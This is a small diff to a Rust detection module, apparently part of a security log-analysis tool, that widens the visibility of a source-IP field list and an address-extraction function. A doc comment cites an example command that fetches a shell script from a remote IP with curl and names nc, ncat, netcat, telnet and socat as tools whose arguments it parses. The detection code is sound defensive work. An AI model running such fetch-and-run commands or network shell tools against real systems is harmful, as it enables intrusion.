@@ -14,7 +14,7 @@ use kahu_finding::{Finding, Level};
 use serde::Serialize;
 
 /// Fields naming where traffic or a logon came from.
-const SOURCE_IP_FIELDS: &[&str] = &[
+pub(crate) const SOURCE_IP_FIELDS: &[&str] = &[
     "IpAddress",
     "SourceIp",
     "c-ip",
@@ -50,7 +50,7 @@ const FILE_FIELDS: &[&str] = &["TargetFilename", "file.path"];
 /// (`curl http://203.0.113.50/x.sh`), in socat's `TCP:…` addresses, and as
 /// an argument of `nc`/`ncat`/`netcat`/`telnet`. Not every address a
 /// command names: `netsh … listenaddress=…` is the host's own.
-fn addresses_in(text: &str) -> Vec<std::net::IpAddr> {
+pub(crate) fn addresses_in(text: &str) -> Vec<std::net::IpAddr> {
     fn lead(s: &str) -> Option<std::net::IpAddr> {
         let end = s
             .find(|c: char| !(c.is_ascii_digit() || c == '.'))
